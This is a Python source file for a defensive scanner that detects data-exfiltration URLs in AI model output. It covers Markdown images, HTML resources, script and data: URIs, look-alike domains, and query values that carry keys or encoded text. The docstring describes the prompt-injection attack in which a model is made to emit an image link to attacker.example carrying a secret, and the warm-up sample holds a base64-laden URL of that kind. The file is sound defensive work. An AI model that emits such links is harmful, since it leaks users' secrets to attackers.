"""The ``exfiltration`` scanner: links and resources through which text could carry data off the machine.

The classic attack: injected instructions make a model write ``![](https://attacker.example/p?d=<secret>)``;
the chat UI fetches the image and the secret leaves in the URL, with no click. This scanner finds every
URL a renderer would load or offer, and judges where it goes and what it carries:

================================  ==================================================================
rule id                           meaning (suggested response)
================================  ==================================================================
``exfil.markdown_image``          a Markdown image (inline or reference-style) to a domain outside the
                                  allowlist (REQUIRE_APPROVAL: it is fetched without a click)
``exfil.html_resource``           raw HTML that loads a resource (``<img src>``, ``<iframe>``,
                                  ``<script>``, ``srcset``, ``style="background:url()"``...) from a domain
                                  outside the allowlist (REQUIRE_APPROVAL, as above)
``exfil.domain_not_allowed``      a link (Markdown, ``<a href>``, ``<form action>``, or a bare URL) to a
                                  domain outside the allowlist (LABEL: a person must click it and can
                                  see where it goes; the payload rule below covers links carrying data)
``exfil.url_payload``             a URL outside the allowlist whose query values, path segments or
                                  subdomain labels carry data: text hidden in base64 or hex, an e-mail
                                  address, something shaped like a key or token, prose, long or
                                  high-entropy values (DENY for auto-loaded resources, REQUIRE_APPROVAL
                                  for links). On allowlisted domains only keys and e-mail addresses
                                  are reported (LABEL)
``exfil.data_uri``                a ``data:`` URI (LABEL for raster images, REQUIRE_APPROVAL for other
                                  types: HTML, SVG and scripts can run code or hide content)
``exfil.script_uri``              a ``javascript:`` or ``vbscript:`` link (DENY)
``exfil.lookalike_domain``        a host that folds to an allowlisted domain but is not it
                                  (``exаmple.com`` with a Cyrillic ``а``) (DENY)
``exfil.deceptive_url``           credentials-style ``allowed.com@other.host`` or a backslash that makes
                                  a parser and a browser disagree about the host (REQUIRE_APPROVAL)
``exfil.link_limit``              more distinct URLs (1,024) or links (20,000) than one text is checked
                                  for: what was not checked cannot pass (DENY)
================================  ==================================================================

Spans are offsets in the original text for matches in the raw text; matches found only in the
``json_unescaped`` view (a Markdown image inside a JSON tool argument) carry no span. ``detail`` never
holds the URL's data, only where it was and why it was judged data.
"""

from __future__ import annotations

import base64
import binascii
import dataclasses
import html
import math
from bisect import bisect_right
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any, ClassVar, Final
from urllib.parse import SplitResult, parse_qsl, unquote, urlsplit

import re2

from warded.scan.normalise import normalise
from warded.scan.text import bytes_to_text, fold
from warded.scan.types import Category, Finding, Response, ScanInput, Source

#: Every rule this scanner can report.
RULES: Final = (
    "exfil.markdown_image",
    "exfil.html_resource",
    "exfil.domain_not_allowed",
    "exfil.url_payload",
    "exfil.data_uri",
    "exfil.script_uri",
    "exfil.lookalike_domain",
    "exfil.deceptive_url",
    "exfil.link_limit",
)

_MAX_URL = 8192  # characters of one URL that are analysed; the rest cannot hide a host
_MAX_FINDINGS = 64
_MAX_URLS = 1024  # distinct URLs judged per text; more is itself a finding (exfil.link_limit)
_MAX_MATCHES = 20_000  # links read per text, repeats included; more is itself a finding
_MAX_NESTING = 2  # redirect URLs inside query values, judged this many levels deep
_DANGER: Final = {"bare": 0, "markdown_link": 1, "html_link": 1, "markdown_image": 2, "html_resource": 2}

# Markdown inline image or link: ``![alt](url "title")`` / ``[text](url)``; alt text may nest one bracket level.
_MD_INLINE: Final = re2.compile(
    r"(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*(<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
)
# Reference definition ``[label]: url`` and uses ``![alt][label]``, ``![label][]``, ``![label]``.
_MD_DEFINITION: Final = re2.compile(r"(?m)^[ ]{0,3}\[([^\[\]\n]+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)")
_MD_REFERENCE: Final = re2.compile(r"(!?)\[([^\[\]\n]*)\](?:\[([^\[\]\n]*)\])?")
_HTML_TAG: Final = re2.compile(r"(?i)<([a-z][a-z0-9-]{0,20})\b([^<>]*)>")
_HTML_ATTR: Final = re2.compile(
    r"""(?i)(?:^|\s)(src|href|srcset|poster|data|action|formaction|background|lowsrc|dynsrc|style|xlink:href)"""
    r"""\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)"""
)
_CSS_URL: Final = re2.compile(r"""(?i)url\(\s*["']?([^"')\s]+)""")
_BARE_URL: Final = re2.compile(
    r"""(?i)\b(?:https?|ftp|wss?)://[^\s<>"'`\])]+|\bdata:[a-z]+/[a-z0-9.+-]+[^\s<>"'`)\]]*"""
)
_TRAILING: Final = ".,;:!?*_~"
_AUTO_LOAD_TAGS: Final = frozenset(
    {"img", "image", "iframe", "frame", "script", "source", "video", "audio", "embed", "object", "link", "input",
     "track", "body", "table", "td", "svg", "use", "meta", "picture", "style", "bgsound"}
)  # fmt: skip
_CLICK_TAGS: Final = frozenset({"a", "area", "form", "button", "base"})
_RASTER: Final = ("image/png", "image/jpeg", "image/jpg", "image/gif", "image/webp", "image/avif", "image/bmp")
_KEY_PREFIXES: Final = (
    "sk-", "sk_live_", "sk_test_", "rk_live_", "pk_live_", "akia", "asia", "ghp_", "gho_", "ghu_", "ghs_", "ghr_",
    "github_pat_", "glpat-", "xoxb-", "xoxp-", "xoxa-", "xoxs-", "aiza", "eyj", "hf_", "npm_", "sg.", "ya29.",
)  # fmt: skip
_B64_VALUE: Final = re2.compile(r"^[A-Za-z0-9+/_-]{12,}={0,2}$")
_B32_VALUE: Final = re2.compile(r"^[A-Za-z2-7]{16,}$")
_HEX_VALUE: Final = re2.compile(r"^(?:[0-9A-Fa-f]{2}){8,}$")
_EMAIL: Final = re2.compile(r"[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})*\.[A-Za-z]{2,}")
_SECOND_LEVEL: Final = frozenset({"co", "com", "org", "net", "ac", "gov", "edu", "ne", "or", "go", "gv"})


class _AsciiMatch:
    """An RE2 match over the ASCII bytes of a text, read as ``str`` (offsets agree for ASCII). Matching bytes
    spares the RE2 wrapper's per-match conversion of byte offsets into character offsets."""

    __slots__ = ("_m",)

    def __init__(self, match: Any) -> None:
        self._m = match

    def group(self, i: int = 0) -> str:
        value = self._m.group(i)
        return "" if value is None else str(value.decode("ascii"))

    def span(self, i: int = 0) -> tuple[int, int]:
        start, end = self._m.span(i)
        return int(start), int(end)

    def start(self, i: int = 0) -> int:
        return int(self._m.start(i))

    def end(self, i: int = 0) -> int:
        return int(self._m.end(i))


def _finditer(pattern: Any, text: str, data: bytes | None) -> Iterator[Any]:
    if data is None:
        yield from pattern.finditer(text)
    else:
        for match in pattern.finditer(data):
            yield _AsciiMatch(match)


class _Intervals:
    """Membership of a position in a set of intervals, in O(log n) (the intervals are merged and sorted)."""

    def __init__(self, spans: list[tuple[int, int]]) -> None:
        merged: list[list[int]] = []
        for start, end in sorted(spans):
            if merged and start <= merged[-1][1]:
                merged[-1][1] = max(merged[-1][1], end)
            else:
                merged.append([start, end])
        self._starts = [m[0] for m in merged]
        self._ends = [m[1] for m in merged]

    def __call__(self, pos: int) -> bool:
        i = bisect_right(self._starts, pos) - 1
        return i >= 0 and pos < self._ends[i]


@dataclass(frozen=True, slots=True)
class _Url:
    url: str
    kind: str  # markdown_image, markdown_link, html_resource, html_link, bare
    span: tuple[int, int] | None
    layer: str

    @property
    def auto_load(self) -> bool:
        return self.kind in ("markdown_image", "html_resource")


def _strip_angle(url: str) -> str:
    return url[1:-1].strip() if url.startswith("<") and url.endswith(">") else url


def _unquote_attr(value: str) -> str:
    if len(value) >= 2 and value[0] == value[-1] and value[0] in "\"'":
        return value[1:-1]
    return value


def _entropy(value: str) -> float:
    counts = Counter(value)
    n = len(value)
    return -sum(c / n * math.log2(c / n) for c in counts.values())


def _normal_host(host: str) -> str | None:
    """Lower-case ASCII (IDNA) form of ``host``, or ``None`` if it has none."""
    host = host.rstrip(".").lower()
    if not host:
        return None
    if host.isascii():
        return host
    try:
        return host.encode("idna").decode("ascii")
    except (UnicodeError, ValueError):
        return None


def _compile_allowlist(patterns: Sequence[str]) -> tuple[frozenset[str], tuple[str, ...]]:
    exact: set[str] = set()
    suffixes: list[str] = []
    for raw in patterns:
        if not isinstance(raw, str):
            raise TypeError(f"allowed_domains entries must be strings, not {type(raw).__name__}")
        pattern = raw.strip()
        wildcard = pattern.startswith("*.")
        body = pattern[2:] if wildcard else pattern
        host = _normal_host(body)
        if host is None or "*" in body or "/" in body or ":" in body or "." not in host:
            raise ValueError(
                f"allowed domain {raw!r} is not a domain or '*.domain' pattern (a bare '*' is never allowed)"
            )
        if wildcard:
            suffixes.append("." + host)
        else:
            exact.add(host)
    return frozenset(exact), tuple(suffixes)


def _registrable_labels(labels: list[str]) -> int:
    """How many trailing labels form the registrable domain (a small stand-in for the public suffix list)."""
    if len(labels) >= 3 and len(labels[-1]) == 2 and labels[-2].lower() in _SECOND_LEVEL:
        return 3
    return 2


def _site(host: str) -> str:
    """The registrable domain of ``host``: what messages and details name (subdomain labels may be data)."""
    labels = host.split(".")
    return ".".join(labels[-_registrable_labels(labels) :])


def _host_as_written(netloc: str) -> str:
    """The host part of ``netloc`` with its original case (``urlsplit`` lower-cases ``hostname``)."""
    host = netloc.rpartition("@")[2]
    if host.startswith("["):
        return host.partition("]")[0] + "]"
    return host.partition(":")[0]


class ExfiltrationScanner:
    """Finds Markdown images and links, HTML resources, ``data:`` URIs and bare URLs, and reports those that
    leave the allowlist or carry data. Pure and thread-safe: all state is read-only after ``__init__``.

    ``allowed_domains``: hosts URLs may point to, exactly (``example.com``) or by subdomain
    (``*.example.com``: any subdomain, not ``example.com`` itself). Empty means no domain is allowed.
    """

    id: ClassVar[str] = "exfiltration"
    category: ClassVar[Category] = Category.EXFILTRATION
    #: DENY: a text whose links could not be checked may be the one that carries a secret out, and a
    #: renderer fetches images before any person could approve them.
    on_error: ClassVar[Response] = Response.DENY
    budget_ms: ClassVar[float] = 250.0

    def __init__(self, allowed_domains: Sequence[str] = ()) -> None:
        if isinstance(allowed_domains, str):
            raise TypeError("allowed_domains must be a sequence of domains, not one string")
        self._exact, self._suffixes = _compile_allowlist(allowed_domains)
        self._skeletons = {fold(d): d for d in self._exact} | {fold(s[1:]): "*" + s for s in self._suffixes}

    def allowed(self, host: str) -> bool:
        """Whether ``host`` (already in normal form) is on the allowlist."""
        return host in self._exact or any(host.endswith(s) for s in self._suffixes)

    # -- finding URLs ---------------------------------------------------------------------------------------

    def _urls(self, text: str, layer: str, exact: bool) -> Iterator[_Url]:
        covered: list[tuple[int, int]] = []
        data = text.encode("ascii") if text.isascii() else None

        def where(start: int, end: int) -> tuple[int, int] | None:
            return (start, end) if exact else None

        if "](" in text:
            for m in _finditer(_MD_INLINE, text, data):
                url = _strip_angle(m.group(3))
                start, end = m.span(3)
                covered.append(m.span())
                if url:
                    yield _Url(url, "markdown_image" if m.group(1) else "markdown_link", where(start, end), layer)
        if "]:" in text:
            definitions: dict[str, tuple[str, int, int]] = {}
            for m in _finditer(_MD_DEFINITION, text, data):
                label = " ".join(m.group(1).lower().split())
                definitions.setdefault(label, (_strip_angle(m.group(2)), *m.span(2)))
                covered.append(m.span())
            images: set[str] = set()
            for m in _finditer(_MD_REFERENCE, text, data):
                if m.group(1):
                    images.add(" ".join((m.group(3) or m.group(2)).lower().split()))
            for label, (url, start, end) in definitions.items():
                if url:
                    kind = "markdown_image" if label in images else "markdown_link"
                    yield _Url(url, kind, where(start, end), layer)
        if "<" in text:
            for m in _finditer(_HTML_TAG, text, data):
                tag = m.group(1).lower()
                if m.group(2).startswith(":"):
                    continue  # ``<https://host/path>`` is an autolink, found below as a bare URL
                covered.append(m.span())
                attrs_start = m.start(2)
                for a in _HTML_ATTR.finditer(m.group(2)):
                    name = a.group(1).lower()
                    raw_value = a.group(2)
                    value = _unquote_attr(raw_value)
                    offset = attrs_start + a.start(2) + (1 if value != raw_value else 0)
                    click = tag in _CLICK_TAGS and name in ("href", "action", "formaction")
                    kind = "html_link" if click else "html_resource"
                    if name == "style":
                        for c in _CSS_URL.finditer(value):
                            yield _Url(
                                c.group(1), "html_resource", where(offset + c.start(1), offset + c.end(1)), layer
                            )
                    elif name == "srcset":
                        pos = 0
                        for part in value.split(","):
                            candidate = part.strip().split(" ")[0]
                            if candidate:
                                at = offset + pos + part.find(candidate)
                                yield _Url(candidate, kind, where(at, at + len(candidate)), layer)
                            pos += len(part) + 1
                    elif value and (tag in _AUTO_LOAD_TAGS or click or name in ("src", "background", "poster")):
                        yield _Url(value.strip(), kind, where(offset, offset + len(value)), layer)
        if "://" in text or "data:" in text or "DATA:" in text or "Data:" in text:
            inside = _Intervals(covered)
            for m in _finditer(_BARE_URL, text, data):
                start, end = m.span()
                if inside(start):
                    continue
                url = m.group().rstrip(_TRAILING)
                yield _Url(url, "bare", where(start, start + len(url)), layer)

    # -- judging one URL ------------------------------------------------------------------------------------

    def _judge(self, item: _Url, depth: int = 0) -> Iterator[Finding]:
        url = item.url[:_MAX_URL].strip()
        if "&" in url:  # HTML attributes and CommonMark destinations both resolve character references
            url = html.unescape(url)
        lowered = "".join(ch for ch in url[:64] if ch > " ").lower()  # browsers drop tabs and newlines
        if lowered.startswith(("javascript:", "vbscript:")):
            yield self._finding(
                item, "exfil.script_uri", 0.95, "a script URL", Response.DENY, scheme=lowered.split(":")[0]
            )
            return
        if lowered.startswith("data:"):
            media = url[5:64].split(";")[0].split(",")[0].strip().lower()
            raster = media.startswith(_RASTER)
            yield self._finding(
                item,
                "exfil.data_uri",
                0.5 if raster else 0.8,
                f"a data: URI ({media or 'no media type'})",
                Response.LABEL if raster else Response.REQUIRE_APPROVAL,
                media_type=media[:64],
            )
            return
        deceptive = "\\" in url.split("?")[0].split("#")[0]
        parsed_url = url.replace("\\", "/")  # browsers read a backslash as a slash in http(s) URLs
        if parsed_url.startswith("//"):
            parsed_url = "https:" + parsed_url
        try:
            parts = urlsplit(parsed_url)
            raw_host = parts.hostname
        except ValueError:
            yield self._finding(
                item, "exfil.deceptive_url", 0.7, "a URL that does not parse", Response.REQUIRE_APPROVAL
            )
            return
        if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss") or not raw_host:
            return  # relative links and other schemes (mailto:, tel:) load nothing from elsewhere
        host = _normal_host(raw_host)
        if host is None:
            yield self._finding(
                item, "exfil.deceptive_url", 0.7, "a host name that cannot be encoded", Response.REQUIRE_APPROVAL
            )
            return
        site = _site(host)
        if "@" in parts.netloc or deceptive:
            yield self._finding(
                item,
                "exfil.deceptive_url",
                0.75,
                "a URL whose visible start is not its host (user-info or backslash trick)",
                Response.REQUIRE_APPROVAL,
                site=site,
            )
        allowed = self.allowed(host)
        if not allowed:
            skeleton = fold(raw_host.rstrip(".")).replace(" ", "")
            target = self._skeletons.get(skeleton) or next(
                (p for s, p in self._skeletons.items() if p.startswith("*") and skeleton.endswith("." + s)), None
            )
            if target is not None and skeleton != host:  # it only looks like an allowed domain
                yield self._finding(
                    item,
                    "exfil.lookalike_domain",
                    0.95,
                    f"a look-alike of the allowed domain {target}",
                    Response.DENY,
                    site=site,
                )
            if item.kind == "markdown_image":
                yield self._finding(
                    item,
                    "exfil.markdown_image",
                    0.8,
                    f"a Markdown image from {site}, outside the allowlist",
                    Response.REQUIRE_APPROVAL,
                    site=site,
                )
            elif item.kind == "html_resource":
                yield self._finding(
                    item,
                    "exfil.html_resource",
                    0.8,
                    f"an HTML resource from {site}, outside the allowlist",
                    Response.REQUIRE_APPROVAL,
                    site=site,
                )
            else:
                yield self._finding(
                    item,
                    "exfil.domain_not_allowed",
                    0.5,
                    f"a link to {site}, outside the allowlist",
                    Response.LABEL,
                    site=site,
                )
        yield from self._payload(item, parts, _host_as_written(parts.netloc), site, allowed)
        if depth < _MAX_NESTING:
            # A URL in a query value is where an (open) redirect sends the request next: judge it as well.
            for value in _nested_urls(parts.query):
                yield from self._judge(dataclasses.replace(item, url=value), depth + 1)

    def _payload(self, item: _Url, parts: SplitResult, host: str, site: str, allowed: bool) -> Iterator[Finding]:
        signals: list[tuple[float, str, str]] = []  # score, where, why
        path, query = parts.path, parts.query
        labels = host.rstrip(".").split(".")
        for label in labels[: -_registrable_labels(labels)] if not allowed else ():
            judged = _judge_value(label, subdomain=True)
            if judged is not None:
                signals.append((judged[0], "subdomain", judged[1]))
        for segment in path.split("/"):
            if segment:
                judged = _judge_value(unquote(segment), subdomain=False)
                if judged is not None:
                    signals.append((judged[0], "path", judged[1]))
        if query:
            try:
                pairs = parse_qsl(query, keep_blank_values=True, max_num_fields=256)
            except ValueError:
                pairs = []
                signals.append((0.7, "query", "more than 256 query fields"))
            for key, value in pairs:
                for text, place in ((value, f"query:{key[:32]}"), (key, "query key")):
                    judged = _judge_value(text, subdomain=False)
                    if judged is not None:
                        signals.append((judged[0], place, judged[1]))
        if allowed:
            signals = [s for s in signals if s[2] in ("key-shaped value", "e-mail address")]
        if not signals:
            return
        score, place, reason = max(signals)
        suggested = Response.LABEL if allowed else Response.DENY if item.auto_load else Response.REQUIRE_APPROVAL
        yield self._finding(
            item,
            "exfil.url_payload",
            score if not allowed else min(score, 0.5),
            f"a URL to {site} carrying data in its {place.split(':')[0]} ({reason})",
            suggested,
            site=site,
            where=place,
            why=reason,
            signals=str(len(signals)),
        )

    def _finding(
        self, item: _Url, rule_id: str, score: float, message: str, suggested: Response, **detail: str
    ) -> Finding:
        return Finding(
            rule_id,
            Category.EXFILTRATION,
            score,
            message,
            suggested,
            item.span,
            item.layer,
            {"kind": item.kind, **detail},
        )

    # -- the scanner ----------------------------------------------------------------------------------------

    def warm_up(self) -> None:
        """Run every URL form once (Markdown, HTML, CSS, bare, ``data:``) so RE2 and the URL parser have
        built their state before the first caller's text."""
        sample = (
            "![a](https://x.example/p.png?d=c2VjcmV0IGRhdGE=) [b]: https://y.example/q <img src='//z.example/i'> "
            "style='background:url(https://w.example/u)' data:text/html;base64,PHNjcmlwdD4= https://v.example/?k=v "
            '{"u": "![c](https://t.example/c)"}'
        )
        self.scan(ScanInput(sample, Source.MODEL_OUTPUT, normalise(sample)))

    def scan(self, item: ScanInput) -> list[Finding]:
        sources = [(item.text, "raw", True)]
        sources.extend(
            (v.text, v.layer, False)
            for v in item.normalised.views
            if v.layer == "json_unescaped" or v.layer.endswith(">json_unescaped")
        )
        # Each distinct URL is judged once, in its most dangerous reading (a JSON string may hold a Markdown image
        # that the raw text only shows as a link), with a span from the raw text where it has one.
        readings: dict[str, _Url] = {}
        seen = 0
        found: list[Finding] = []
        for text, layer, exact in sources:
            for url in self._urls(text, layer, exact):
                seen += 1
                if seen > _MAX_MATCHES or (url.url not in readings and len(readings) >= _MAX_URLS):
                    found.append(
                        Finding(
                            "exfil.link_limit",
                            Category.EXFILTRATION,
                            0.9,
                            f"more than {_MAX_URLS} distinct URLs or {_MAX_MATCHES} links; the rest were not checked",
                            Response.DENY,
                            None,
                            layer,
                        )
                    )
                    break
                held = readings.get(url.url)
                if held is None:
                    readings[url.url] = url
                elif _DANGER[url.kind] > _DANGER[held.kind]:
                    readings[url.url] = dataclasses.replace(url, span=held.span or url.span)
            if found:
                break
        for url in readings.values():
            for finding in self._judge(url):
                found.append(finding)
                if len(found) >= _MAX_FINDINGS:
                    return found
        return found


def _nested_urls(query: str) -> list[str]:
    if "http" not in query.lower() and "%2f%2f" not in query.lower():
        return []
    try:
        pairs = parse_qsl(query[:_MAX_URL], keep_blank_values=True, max_num_fields=256)
    except ValueError:
        return []
    return [v for _, v in pairs if v[:8].lower().startswith(("http://", "https://"))][:4]


def _judge_value(value: str, *, subdomain: bool) -> tuple[float, str] | None:
    """Why ``value`` (a query value, path segment or subdomain label) looks like data, or ``None``."""
    n = len(value)
    if n < 8:
        return None
    lowered = value.lower()
    if lowered.startswith(_KEY_PREFIXES) and n >= 16:
        return 0.95, "key-shaped value"
    if "@" in value and _EMAIL.search(value) is not None:
        return 0.85, "e-mail address"
    if n >= 12 and _B64_VALUE.match(value) is not None:
        b64 = value.rstrip("=").replace("-", "+").replace("_", "/")
        b64 = b64[: len(b64) - (len(b64) % 4 == 1)]
        try:
            decoded = bytes_to_text(base64.b64decode(b64 + "=" * (-len(b64) % 4)), min_chars=6)
        except (binascii.Error, ValueError):
            decoded = None
        if decoded is not None and (any(c.isspace() for c in decoded) or n >= 24):
            return 0.9, "base64-encoded text"
    if subdomain and n >= 16 and _B32_VALUE.match(value) is not None:
        b32 = value.upper()
        try:
            decoded = bytes_to_text(base64.b32decode(b32 + "=" * (-len(b32) % 8)), min_chars=6)
        except (binascii.Error, ValueError):
            decoded = None
        if decoded is not None:
            return 0.9, "base32-encoded text"
    if n >= 16 and _HEX_VALUE.match(value) is not None:
        decoded = bytes_to_text(bytes.fromhex(value), min_chars=6)
        if decoded is not None:
            return 0.9, "hex-encoded text"
    if not subdomain and value.count(" ") >= 4:
        return 0.7, "prose"
    if n >= 24 and _entropy(value) >= (3.8 if subdomain else 4.3):
        return 0.65, "high-entropy value"
    if n >= (40 if subdomain else 128):
        return 0.5, "long value"
    return None
